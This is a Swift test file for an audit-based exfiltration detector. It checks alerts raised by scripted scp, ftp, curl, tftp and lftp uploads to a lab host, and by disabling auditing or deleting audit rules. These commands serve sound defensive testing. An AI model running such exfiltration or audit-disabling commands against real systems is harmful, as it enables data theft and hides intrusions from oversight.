import Foundation
import TestSupport
import Testing

/// The rules end to end: real clients against the lab's real servers, the agent on the live
/// audit stream, alerts read back from its alert file. The host reaches the lab's "Internet"
/// server (203.0.113.10) from a private address (10.203.0.1), as behind a router.
extension KernelAuditTests.FlowEndToEnd {
    @Test func cronJobCopyingLogsAndAScriptedFtpPut() throws {
        let big = try randomFile("big.bin", bytes: 12_000_000)
        let put = try commandsFile("put.ftp", ["user anonymous x", "binary", "put \(big) upload/big.bin", "quit"])
        let job = try commandsFile(
            "job.sh",
            [
                "scp -r \(sshOptions.joined(separator: " ")) /var/log/apt root@203.0.113.10:\(lab)/sshroot/",
                "ftp -n -p 203.0.113.10 < \(put) > /dev/null",
            ])
        // A shell named cron runs the job, as cron would: no terminal, stdin /dev/null.
        let cron = work + "/cron"
        try FileManager.default.copyItem(atPath: "/bin/dash", toPath: cron)
        let agent = try startAgent()
        let cronPid = try client(cron, ["-c", "bash \(job); true"])
        _ = try stop(agent, expecting: 2)
        let alerts = try readAlerts()

        let copy = try #require(alerts.first { $0.rule == "an1170.command_line" }, "\(alerts.map(\.rule))")
        #expect(copy.executable == "/usr/bin/scp" && copy.args.contains("/var/log/apt"))
        #expect(copy.ancestry.contains(cron) && copy.ancestry.first == "/usr/bin/bash")
        #expect(copy.json["xferwatch.analytic"] as? String == "AN1170")

        let ssh = try #require(alerts.first { $0.rule == "an1170.noninteractive_transfer" && $0.executable == "/usr/bin/ssh" })
        #expect(ssh.parentExecutable == "/usr/bin/scp")
        #expect(ssh.reasons.contains("launched by cron") && ssh.reasons.contains("no tty") && ssh.reasons.contains("shell running a script file"))
        #expect(ssh.json["process.interactive"] as? Bool == false)

        // The ftp client reading its commands from a file: scripted, large, outbound, Internet.
        let scripted = try #require(alerts.first { $0.rule == "ftp.scripted" })
        // Its stdin file, when the agent read /proc before the session ended; else no terminal.
        #expect(scripted.executable == "/usr/bin/tnftp")
        #expect(
            scripted.reasons == ["ftp reads its commands from a file on stdin"]
                || scripted.reasons == ["ftp ran without a terminal, its stdin unread: its commands came from a script"], "\(scripted.reasons)")
        let large = try #require(alerts.first { $0.rule == "an1170.large_transfer" })
        #expect(large.pid == scripted.pid && large.executable == "/usr/bin/tnftp")
        let sent = try #require(large.json["source.bytes"] as? Int)
        #expect(sent >= 12_000_000 && Double(sent) < 12_000_000 * 1.01, "the session's bytes with its data connection")
        #expect(large.json["destination.ip"] as? String == "203.0.113.10" && large.json["destination.port"] as? Int == 21)
        #expect(large.json["source.ip"] as? String == "10.203.0.1")
        #expect(large.json["network.protocol"] as? String == "ftp" && large.json["xferwatch.transfer.direction"] as? String == "upload")
        #expect(large.json["xferwatch.bytes_exact"] as? Bool == true)
        #expect(large.json["event.kind"] as? String == "alert" && large.json["event.severity"] as? Int == 73)
        #expect(large.json["threat.technique.id"] as? String == "T1048" && large.json["threat.tactic.name"] as? String == "Exfiltration")
        #expect(large.json["user.name"] as? String == "root" && large.json["user.id"] as? String == "0")
        let hostname = try runCommand("/bin/hostname", []).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(large.json["host.hostname"] as? String == hostname)
        #expect(large.ancestry.contains(cron))
        let outbound = try #require(alerts.first { $0.rule == "an1169.outbound_ratio" })
        #expect(outbound.pid == large.pid && outbound.reasons.first?.hasPrefix("100% of") == true)
        let internet = try #require(alerts.first { $0.rule == "ftp.internet" })
        #expect(internet.reasons == ["source 10.203.0.1 is private (RFC 1918)", "destination 203.0.113.10:21 is on the Internet"])
        // /var/log/apt is small: scp's flow is not a large transfer.
        #expect(alerts.filter { $0.rule == "an1170.large_transfer" }.count == 1)
        #expect(alerts.allSatisfy { $0.ancestry.contains(cron) || $0.pid == Int(cronPid) })
        #expect(Set(alerts.map(\.id)).count == alerts.count, "alert ids are unique")
        expectOneAlertPerRuleAndSubject(alerts)
    }

    @Test func livingOffTheLandTransfersAndNonStandardPorts() throws {
        let zip = try randomFile("report.zip", bytes: 300_000)
        let hash = "9e107d9d372bb6826bd81d3542a419d6"
        let hashed = try randomFile(hash, bytes: 100_000)
        let batch = try commandsFile("batch.sftp", ["put \(zip) \(lab)/sshroot/report.zip"])
        let agent = try startAgent()
        let python = try client(
            "/usr/bin/python3",
            ["-c", "import subprocess, sys; subprocess.run(['curl', '-s', '-T', sys.argv[1], 'ftp://203.0.113.10/upload/report.zip'], check=True)", zip])
        let busybox = try client("/usr/bin/busybox", ["tftp", "-p", "-l", hashed, "-r", hash, "203.0.113.10"])
        let lftp = try client("/usr/bin/lftp", ["-u", "anonymous,x", "-p", "443", "-e", "put \(zip) -o upload/x443.zip; quit", "203.0.113.10"])
        let sftp = try client("/usr/bin/sftp", sshOptions + ["-b", batch, "root@203.0.113.10"])
        _ = try stop(agent, expecting: 4)
        let alerts = try readAlerts()

        let lolbin = try #require(alerts.first { $0.rule == "an1169.lolbin_transfer" && $0.parentPid == Int(python) }, "\(alerts.map(\.rule))")
        #expect(lolbin.executable == "/usr/bin/curl" && lolbin.parentExecutable == "/usr/bin/python3.11")
        #expect(lolbin.reasons.count == 2 && lolbin.reasons[1].hasPrefix("parent python3 (pid \(python))"))
        #expect(lolbin.json["xferwatch.analytic"] as? String == "AN1169" && lolbin.json["threat.technique.id"] as? String == "T1071.002")
        let zipName = try #require(alerts.first { $0.rule == "an1169.suspicious_filename" && $0.parentPid == Int(python) })
        #expect(zipName.reasons == ["command line names report.zip"])

        let tftp = try #require(alerts.first { $0.rule == "an1169.suspicious_filename" && $0.pid == Int(busybox) })
        #expect(tftp.reasons == ["command line names \(hash)"] && tftp.json["network.protocol"] as? String == "tftp")
        #expect(alerts.contains { $0.rule == "an1169.lolbin_transfer" && $0.pid == Int(busybox) })

        let port = try #require(alerts.first { $0.rule == "transfer.nonstandard_port" })
        #expect(port.pid == Int(lftp) && port.json["destination.port"] as? Int == 443)
        // With the tap on the port is judged once the content said what it carries.
        #expect(port.reasons == ["lftp connected to port 443 (usual for ftp: 21, 990)", "content: FTP server greeting on 203.0.113.10:443"])
        #expect(alerts.filter { $0.rule == "transfer.nonstandard_port" }.count == 1, "FTP data connections are never this")

        let batchAlert = try #require(alerts.first { $0.rule == "ftp.scripted" && $0.pid == Int(sftp) })
        #expect(batchAlert.reasons == ["sftp -b runs a batch file"])
        // The test runner is no lolbin, and lftp and sftp are not either.
        #expect(!alerts.contains { $0.rule == "an1169.lolbin_transfer" && ($0.pid == Int(lftp) || $0.parentPid == Int(sftp)) })
        expectOneAlertPerRuleAndSubject(alerts)
    }

    @Test func exclusionsForKnownJobs() throws {
        let file = try randomFile("backup.tar.gz", bytes: 200_000)
        let runner = work + "/gitlab-runner"
        try FileManager.default.copyItem(atPath: "/bin/dash", toPath: runner)
        let agent = try startAgent(
            """
            [[exclusions]]
            name = "lftp backups"
            process_name = ["lftp"]
            destination_networks = ["203.0.113.0/24"]

            [[exclusions]]
            name = "ci pushes"
            ancestor_executable = "\(runner)"
            destination_ports = [21]
            """)
        let lftp = try client("/usr/bin/lftp", ["-u", "anonymous,x", "-e", "put \(file) -o upload/nightly.tar.gz; quit", "203.0.113.10"])
        let push = try client(runner, ["-c", "curl -s -T \(file) ftp://203.0.113.10/upload/ci.tar.gz; true"])
        let curl = try client("/usr/bin/curl", ["-s", "-T", file, "ftp://203.0.113.10/upload/other.tar.gz"])
        let flows = try stop(agent, expecting: 3).map(FlowView.init)
        let alerts = try readAlerts()
        let pushed = try #require(flows.first { $0.parentPid == Int(push) })

        // Its execve alert (ftp.scripted) waited for the connection: the destination excludes it too.
        #expect(!alerts.contains { $0.pid == Int(lftp) }, "\(alerts.filter { $0.pid == Int(lftp) }.map(\.rule))")
        #expect(!alerts.contains { $0.pid == pushed.pid }, "the CI runner's push is excluded")
        let others = Set(alerts.filter { $0.pid == Int(curl) }.map(\.rule))
        #expect(others.isSuperset(of: ["an1169.lolbin_transfer", "an1169.suspicious_filename", "ftp.internet"]), "\(others)")
        // lftp's flow: not interactive, a .tar.gz, FTP to the Internet; curl's also a lolbin.
        #expect(agent.stderr.contains("\"lftp backups\" 4"), "excluded alerts are counted: \(agent.stderr.suffix(600))")
        #expect(agent.stderr.contains("\"ci pushes\" 4"))
    }

    @Test func firstSeenSurvivesARestartAndHealthAlerts() throws {
        let file = try randomFile("seen.bin", bytes: 50_000)
        let config = "[detection]\nfirst_seen_learning_minutes = 0\n"
        var agent = try startAgent(config)
        let first = try client("/usr/bin/curl", ["-s", "-T", file, "ftp://203.0.113.10/upload/seen1.bin"])
        // Local and private peers are trusted: no alert, but wget is now known to connect out.
        _ = try? runCommand("/usr/bin/busybox", ["wget", "-q", "-O", "/dev/null", "http://10.203.0.10:21/"])
        _ = try stop(agent, expecting: 1)
        var alerts = try readAlerts()
        #expect(alerts.filter { $0.rule == "network.first_seen_process" }.map(\.pid) == [Int(first)])
        #expect(
            alerts.first { $0.rule == "network.first_seen_process" }?.reasons
                == ["first outbound connection of /usr/bin/curl", "destination 203.0.113.10 is untrusted"])
        let state = try String(contentsOfFile: work + "/state/first-seen-executables", encoding: .utf8)
        #expect(state.contains("\n/usr/bin/curl\n") && state.contains("\n/usr/bin/busybox\n"))

        try FileManager.default.removeItem(atPath: alertFile)
        agent = try startAgent(config)
        _ = try client("/usr/bin/curl", ["-s", "-T", file, "ftp://203.0.113.10/upload/seen2.bin"])
        // Someone removes our audit rules: the agent puts them back and says so as an alert.
        let removed = try runCommand("/sbin/auditctl", ["-D", "-k", "xferwatch"])
        #expect(removed.status == 0, "\(removed.stderr)")
        #expect(agent.waitForStderr(containing: "reinstalled them", seconds: 10))
        _ = try stop(agent, expecting: 1)
        alerts = try readAlerts()
        #expect(!alerts.contains { $0.rule == "network.first_seen_process" }, "curl is known from the first run")
        let health = try #require(alerts.first { $0.rule == "agent.health" })
        #expect(health.reasons.first?.contains("audit rules with key xferwatch were removed by someone else") == true)
        #expect(health.pid == nil && health.json["event.severity"] as? Int == 73)
    }

    /// Turning auditing off (ATT&CK T1562.012) is undone and reported as agent.health, once, with
    /// who did it, also when it is switched back on before the agent's next status check.
    @Test func disablingAuditingIsUndoneAndReported() throws {
        let agent = try startAgent()
        func enabled() throws -> Bool { try runCommand("/sbin/auditctl", ["-s"]).stdout.contains("enabled 1") }
        let off = try runCommand("/sbin/auditctl", ["-e", "0"])
        #expect(off.status == 0, "\(off.stderr)")
        #expect(agent.waitForStderr(containing: "auditing was disabled", seconds: 10), "\(agent.stderr.suffix(2000))")
        #expect(try enabled(), "the agent, as _xferwatch, enabled auditing again")
        // Off and on again within a few milliseconds: the kernel's CONFIG_CHANGE still tells.
        let blink = try runCommand("/bin/sh", ["-c", "/sbin/auditctl -e 0 > /dev/null && /sbin/auditctl -e 1 > /dev/null"])
        #expect(blink.status == 0, "\(blink.stderr)")
        let deadline = Date().addingTimeInterval(10)
        while agent.stderr.components(separatedBy: "auditing was disabled").count < 3, Date() < deadline { usleep(50_000) }
        func reports() throws -> [AlertView] {
            try readAlerts().filter { $0.rule == "agent.health" && $0.reasons.first?.hasPrefix("auditing was disabled") == true }
        }
        while try reports().count < 2, Date() < deadline { usleep(50_000) }
        // A third report, if the agent made one, is written by the time it stops.
        _ = try stop(agent, expecting: 0)
        let reports = try reports()
        #expect(reports.count == 2, "\(reports.map(\.reasons))")
        for report in reports {
            let reason = report.reasons.first ?? ""
            #expect(reason.contains("T1562.012") && reason.contains("(/usr/sbin/auditctl), auid ") && reason.contains("enabled it again"), "\(reason)")
        }
    }

    /// With scan_uploaded_files, what an upload's command line names is scanned before it leaves.
    @Test func uploadedFilesAreScannedWhenAsked() throws {
        let payload = work + "/fftp.exe"
        try SyntheticBinary.write(SyntheticBinary.lightFTPPE(strings: 4), to: payload, executable: false)
        let clean = try randomFile("clean.bin", bytes: 10_000)
        let agent = try startAgent("[rules.yara]\npaths = [\"\(Repo.path("rules/yara"))/*.yar\"]\nscan_uploaded_files = true\n")
        let curl = try client("/usr/bin/curl", ["-s", "-T", payload, "ftp://203.0.113.10/upload/fftp.exe"])
        _ = try client("/usr/bin/curl", ["-s", "-T", clean, "ftp://203.0.113.10/upload/clean.bin"])
        _ = try stop(agent, expecting: 2)
        let matches = try readAlerts().filter { $0.rule == "yara.match" }
        #expect(matches.count == 1, "\(matches.map(\.reasons))")
        let match = try #require(matches.first)
        #expect(match.pid == Int(curl) && match.json["file.path"] as? String == payload)
        #expect(match.json["rule.name"] as? String == "yara:LightFTP_fftp_x86_64")
        #expect(match.reasons.first == "named by curl's command line, upload to 203.0.113.10:21")
    }

    // MARK: alerts

    /// Every alert of the run, from the agent's alert file.
    /// The alert file's whole lines: one the agent is writing at that moment is left for later.
    func readAlerts(from path: String? = nil) throws -> [AlertView] {
        let path = path ?? alertFile
        guard FileManager.default.fileExists(atPath: path) else { return [] }
        let text = try String(contentsOfFile: path, encoding: .utf8)
        return try documents(String(text[..<(text.lastIndex(of: "\n").map(text.index(after:)) ?? text.startIndex)])).map(AlertView.init)
    }

    func expectOneAlertPerRuleAndSubject(_ alerts: [AlertView]) {
        var seen = Set<String>()
        for alert in alerts {
            let subject = "\(alert.rule) \(alert.json["xferwatch.flow_id"].map { "flow \($0)" } ?? "pid \(alert.pid ?? -1)")"
            #expect(seen.insert(subject).inserted, "duplicate alert: \(subject)")
        }
    }
}
